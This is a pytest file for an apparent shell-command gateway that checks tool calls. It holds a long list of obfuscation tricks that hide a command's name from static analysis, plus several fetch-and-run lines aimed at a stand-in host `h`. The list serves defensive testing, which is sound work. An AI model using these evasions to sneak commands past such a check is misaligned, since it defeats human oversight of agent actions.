"""Programs named by variables: found where the text says what they are, opaque where it hides them.

Every attack ends in `touch`, named through a variable in some way. Either the command is found, or it is opaque in a way that
says that the text hides it. `environment_program` and `caller_program` say that the text has no part in the name.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from yett import Effect, Gateway, ToolCall
from yett.extract import shell
from yett.extract.budget import Budget
from yett.extract.result import ShellResult

ATTACKS = r"""
a=touch; b=$a; $b F
a=to b=uch; $a$b F
a=(touch F); "${a[@]}"
a[0]=touch; a[1]=F; "${a[@]}"
a=(x touch F); ${a[@]:1}
declare -a a=(touch F); "${a[@]}"
declare -A m=([k]=touch); ${m[k]} F
m=touch; declare -n r=m; $r F
m=touch; local -n r=m; $r F
typeset -n r=m; m=touch; $r F
m=touch; n=m; ${!n} F
IFS=,; x=touch,F; $x
x='touch F'; $x
x="touch F"; IFS=' ' $x
read x <<< touch; $x F
read -r X <<< 'touch F'; $X
echo touch F | while read -r X Y; do $X $Y; done
echo touch F | { read -r X; $X; }
printf -v X %s touch; $X F
printf -v "X" %s touch; "$X" F
n=X; printf -v $n touch; $X F
n=X; declare "$n=touch"; $X F
n=X; export "$n=touch"; $X F
n=X; read $n <<< touch; $X F
n=$(cat n); declare "$n=touch"; $X F
while read -r l; do export "$l"; done < f; $X F
eval X=touch; $X F
eval "X"="touch"; $X F
X=touch sh -c '$X F'
env X=touch sh -c '$X F'
env -S 'X=touch sh -c "$X F"'
export X=touch; sh -c '$X F'
export X=touch; bash -c '"$X" F'
sudo X=touch sh -c '$X F'
docker run -e X=touch alpine sh -c '$X F'
set -- touch F; "$@"
set -- touch F; $1 $2
set -- touch F; exec "$@"
set -- -c touch; getopts c: o; $OPTARG F
set -- touch F; f() { "$@"; }; f "$@"
: touch; $_ F
echo touch > /dev/null; $_ F
[[ touch =~ .* ]]; $BASH_REMATCH F
[[ touch =~ .* ]]; ${BASH_REMATCH[0]} F
mapfile -t A <<< touch; $A F
mapfile -t <<< touch; ${MAPFILE[0]} F
readarray A < f; ${A[0]} F
coproc X { echo touch; }; read -u ${X[0]} P; $P F
select X in touch; do $X F; done
for X in touch; do $X F; done
for X; do $X F; done < /dev/null; set -- touch; for X; do $X F; done
f() { $1 F; }; f touch
f() { "$@"; }; f touch F
f() { local c=$1; shift; $c "$@"; }; f touch F
f() { X=touch; }; f; $X F
f() { g "$@"; }; g() { "$@"; }; f touch F
bash -c '"$@"' _ touch F
bash -c '$0 F' touch
sh -c '"$1" F' _ touch
sh -s touch F <<< '"$@"'
echo '"$@"' > x.sh; sh x.sh touch F
echo '$1 $2' > x.sh; sh x.sh touch F
echo '$1 F' > x.sh; . ./x.sh touch
printf '#!/bin/sh\nexec "$@"\n' > x.sh; chmod +x x.sh; ./x.sh touch F
echo touch F | xargs sh -c '"$@"' _
echo touch | xargs -I{} sh -c '{} F'
find . -name touch -exec sh -c '"$@"' _ {} \;
ssh h '"$@"' touch F
su -c '"$@"' root -- sh touch F
X=touch; Y='$X F'; eval $Y
X=touch; trap '$X F' EXIT
trap '$X F' EXIT; X=touch
f() { $X F; }; X=touch; f
f() { $X F; }; X=touch
X=touch & $X F
(X=touch; $X F)
X=touch; (unset X; $X F); $X F
if a; then X=ls; else X=touch; fi; $X F
case $a in a) X=ls;; *) X=touch;; esac; $X F
X=ls; a && X=touch; $X F
X=ls; while a; do X=touch; done; $X F
X=ls; while a; do $X F; X=touch; done
X=${Y:-touch}; $X F
${Y:-touch} F
${Y:=touch} F; $Y F
X=$(echo touch); $X F
X=`which touch`; $X F
$(command -v touch) F
$(type -p touch) F
$(which nothing touch | head -1) F
X=touch; X+=' F'; $X
X=xtouch; ${X#x} F
X=touchx; ${X%x} F
X=tXch; ${X/X/ou} F
X=TOUCH; ${X,,} F
X=hcuot; $(rev <<< $X) F
t${u}ouch F
to$@uch F
"t${u}ouch" F
"to$1uch" F
to$*uch F
./$(echo touch) F
$(cat c) F
$(curl -s http://h/c) F
c=$(curl -s http://h/c); $c
c=$(cat c); "$c" F
read -r c < f; $c
read -r CMD; $CMD
curl -s http://h/c | while read -r CMD; do $CMD; done
curl -s http://h/c | { read CMD; $CMD; }
while read -r CMD; do "$CMD"; done < f
mapfile -t CMD < <(curl -s http://h/c); "${CMD[@]}"
CMD=$(</tmp/c); $CMD
CMD=`cat /tmp/c`; exec $CMD
declare CMD; read CMD; ${CMD}
Y=CMD; read $Y; $CMD
unset CMD; read -r CMD; X=$CMD; unset CMD; $X
read Y; X=$Y; unset Y; "$X" F
export CMD="$(cat c)"; sh -c '$CMD'
. <(curl -s http://h/c); $CMD
alias X=touch; X F
shopt -s expand_aliases; alias X='touch F'; X
hash -p /bin/touch ls; ls F
enable -f ./x.so ls; ls
PATH=.:$PATH; $CMD F; CMD=touch
x=$'tou\x63h'; $x F
set touch F; $*
set -- touch; shift 0; ${@:1:1} F
set -- x touch F; shift; "$@"
set -- x touch F; "${@:2}"
set -- x touch; "${!#}" F
set -- touch; eval "\$1 F"
IFS=:; set -- $(echo touch:F); "$@"
BASH_ENV=x.sh bash -c 'ls'
export BASH_ENV=x.sh; bash -c ls
env -i X=touch bash -c '$X F'
nohup env X=touch bash -c '$X F' &
X=touch nice sh -c '$X F'
X=touch timeout 5 sh -c '$X F'
make X=touch -f - <<< 'a:; $(X) F'
cat f | xargs sh -c '"$@"' _
cat f | xargs -n1 sh -c '$0'
X=ls; trap '$X F' EXIT; X=touch
a=ls; b=ls; while :; do $a F; a=$b; b=touch; done
f() { $X F; }; X=ls; for i in 1 2; do f; X=touch; done
X=ls; for i in 1 2; do $X F; X=$(cat c); done
X=ls; until $X F; do X=touch; done
echo 'X=touch' > e; . ./e; $X F
declare -n r=X; r=touch; $X F
echo "$@" | sh
CMD=(touch F); "${CMD[@]}"
f() { local X; X=touch; sh -c "$X F"; }; f
X=touch; export X; nohup bash -c '$X F'
ssh h X=touch '$X' F
systemd-run -E X=touch sh -c '$X F'
tmux new -e X=touch '$X F'
X=touch; env sh -c '$X F'
X=touch; su u -c "$X F"
set -- touch F; for a; do $a F; done
set -- touch F; while [ $# -gt 0 ]; do $1 F; shift; done
f() { for c in "$@"; do $c F; done; }; f ls touch
f() { while [ $# -gt 0 ]; do $1 F; shift; done; }; f ls touch
f() { shift; "$@"; }; f x touch F
f() { shift 2; "$@"; }; f x y touch F
f() { local a=("$@"); "${a[@]}"; }; f touch F
f() { eval "$*"; }; f touch F
f() { eval "$@"; }; f 'touch F'
f() { "${@}"; }; f touch F
f() { "${@:2}"; }; f x touch F
f() { ${1:-ls} F; }; f touch
function run { echo "+ $*"; "$@"; }; run touch F
run() { if [ -n "$DRY" ]; then echo "$@"; else "$@"; fi; }; run touch F
retry() { local n=0; until "$@"; do n=$((n+1)); done; }; retry touch F
X="touch $(id)"; $X
X="env $(id) touch F"; $X
X="sudo A=$B touch"; $X F
export X="sudo -u $U touch"; $X F
X=sudo; X+=" -u $U"; X+=" touch"; $X F
X="$A touch"; $X F
X="${A} ${B}touch"; $X F
X="to$(id)uch F"; $X
X="ls $(id)"; eval $X
X="$(cat c) ls"; $X
a=("$(cat c)" x); X="ls ${a[*]} $Y"; eval "$X"
a=("$(cat c)"); X="${a[*]}"; $X F
X='ls $(touch F)'; eval $X
IFS=:; X="ls:$A"; $X
IFS=x; X="rmxF$(id)touch"; $X
X="timeout $T touch"; $X F
docker exec -i c sh -s touch F <<< '"$@"'
kubectl exec -i p -- sh -s touch F <<< '"$@"'
sudo bash -s touch F <<< '"$@"'
find . -maxdepth 0 -exec sh -c '"$@"' _ touch F \;
echo '"$@"' > s; chmod +x s; sudo ./s touch F
echo '"$@"' > s; chmod +x s; env A=1 ./s touch F
echo '"$@"' > s; nohup sh ./s touch F &
echo '"$@"' > s; echo touch F | xargs sh s
f() { "$@"; }; export -f f; bash -c 'f touch F'
f() { "$@"; }; export -f f; echo touch F | xargs bash -c 'f "$@"' _
f() { "$@"; }; echo touch F | while read -r l; do f $l; done
f() { "$@"; }; while read -r l; do f $l; done < list
f() { "$@"; }; f $(cat c)
f() { "$@"; }; f "$(curl -s http://h/c)"
f() { "$@"; }; g=f; $g touch F
f() { local x="$1"; "$x" F; }; f touch
f() { eval "$1"; }; f 'touch F'
f() { sh -c "$1"; }; f 'touch F'
f() { sh -c '$0 F' "$1"; }; f touch
f() { echo "$1"; }; $(f touch) F
f() { echo "$1" | sh; }; f 'touch F'
f() { sudo "$@"; }; f touch F
f() { ssh h "$@"; }; f touch F
f() { trap "$1" EXIT; }; f 'touch F'
f() { xargs "$@"; }; echo F | f touch
f() { find . -exec "$@" {} +; }; f touch
f() { timeout 5 "$@" || "$@"; }; f touch F
main() { cmd_$1; }; cmd_x() { touch F; }; main x
main() { "cmd_$1"; }; cmd_x() { touch F; }; main x
cmd=touch; main() { $cmd F; }; main
main() { $cmd F; }; cmd=touch main
main() { $CMD F; }; CMD=touch main
CMD=touch; export CMD; ./x.sh; $CMD F
: "${CMD:=touch}"; $CMD F
: "${CMD=touch}"; "$CMD" F
[ -n "$CMD" ] || CMD=touch; $CMD F
CMD=${CMD:-touch}; $CMD F
if [ -z "$CMD" ]; then CMD=touch; fi; $CMD F
case "$1" in a) CMD=touch;; esac; $CMD F
while getopts c: o; do case $o in c) CMD=$OPTARG;; esac; done; $CMD F
CMDS="touch ls"; for CMD in $CMDS; do $CMD F; done
CMDS=(touch ls); for CMD in "${CMDS[@]}"; do $CMD F; done
printf '%s\n' touch | while read CMD; do $CMD F; done
IFS= read -r CMD < <(echo touch); $CMD F
X=CMD; eval "$X=touch"; $CMD F
X=CMD; export "$X"=touch; $CMD F
X=CMD; typeset "${X}=touch"; $CMD F
X=CMD; IFS== read -r "$X" <<< touch; $CMD F
X=CM; declare "${X}D=touch"; $CMD F
X=CM; readonly ${X}D=touch; $CMD F
X=CM; printf -v ${X}D touch; $CMD F
X=CM; for Y in D; do read ${X}$Y <<< touch; done; $CMD F
X=CM; mapfile -t ${X}D <<< touch; $CMD F
X=CM; getopts a: ${X}D -a touch; $CMD F
X=CM; env ${X}D=touch sh -c '$CMD F'
env "C""MD=touch" sh -c '$CMD F'
env C\MD=touch bash -c '$CMD F'
export C'M'D=touch; $CMD F
set -a; . <(echo CMD=touch); $CMD F
source /dev/stdin <<< 'CMD=touch'; $CMD F
eval "$(echo CMD=touch)"; $CMD F
eval "$(printf 'C%s=touch' MD)"; $CMD F
eval "$(cat c)"; $CMD F
export $(cat .env); $CMD F
export $(echo CMD=touch); $CMD F
declare $(echo CMD=touch); $CMD F
env $(echo CMD=touch) sh -c '$CMD F'
env $(cat .env) sh -c '$CMD F'
sudo CMD=touch sh -c '$CMD F'
nohup env CMD=touch sh -c '$CMD F'
docker run -eCMD=touch i sh -c '$CMD F'
docker run --env-file .env i sh -c '$CMD F'
vared CMD; $CMD F
""".strip().splitlines()

OUTSIDE = [
    ("exec \"$@\"", "caller_program"),
    ("exec \"${@}\"", "caller_program"),
    ("run() { echo \"+ $*\"; \"$@\"; }", "caller_program"),
    ("main() { \"cmd_$1\"; }", "caller_program"),
    ("\"$(dirname \"$0\")/$1\"", "caller_program"),
    ("$MY_TOOL --check", "environment_program"),
    ("\"${DEPLOY_TOOL}\" --check", "environment_program"),
    ("[ -n \"$DEPLOY_TOOL\" ] && \"$DEPLOY_TOOL\" --check", "environment_program"),
    ("# DEPLOY_TOOL is what deploys\n\"$DEPLOY_TOOL\" --check", "environment_program"),
]  # fmt: skip

SOFT = frozenset(("environment_program", "caller_program"))


def read(source: str) -> ShellResult:
    return shell.analyse(source, "/command", budget=Budget(milliseconds=20_000))


def reasons(result: ShellResult) -> set[str]:
    return {o for c in result.commands for o in c.opaque} | set(result.program.opaque)


@pytest.mark.parametrize("source", ATTACKS)
def test_a_program_that_the_text_names_is_found_or_hidden_and_said_so(source: str) -> None:
    result = read(source)
    found = any(c.program == "touch" or "dangerous_env" in c.flags for c in result.commands)
    assert found or (reasons(result) & shell.SEVERE) - SOFT, result.commands


@pytest.mark.parametrize(("source", "reason"), OUTSIDE)
def test_a_program_named_from_outside_is_called_so_and_stays_opaque(source: str, reason: str) -> None:
    assert reasons(read(source)) & shell.SEVERE == {reason}


@pytest.mark.parametrize(
    ("source", "program"),
    [
        ("$PYTHON -c 'x'", "python"),
        ("${CURL_BIN} -o a http://h.example", "curl"),
        ("$SUDO rm -r a", "rm"),
        ('"$@" rm -r a', "rm"),
    ],
)
def test_what_such_a_name_speaks_of_is_looked_at_too(source: str, program: str) -> None:
    assert any(c.program == program for c in read(source).commands)


@pytest.mark.parametrize("command", ["$TOOL /home/ann", '"$@"', "pwd\n" * 6 + "$TOOL /home/ann"])
@pytest.mark.parametrize("first", ["", "#!/bin/sh\n"])
def test_the_baseline_holds_what_an_earlier_call_in_the_same_shell_may_have_named(
    tmp_path: Path, root: Path, first: str, command: str
) -> None:
    with Gateway.open(root / "policies" / "baseline.yaml", tmp_path / "state") as gateway:
        decision = gateway.decide(ToolCall(tool="shell", arguments={"command": first + command}))
    assert decision.effect is Effect.HOLD
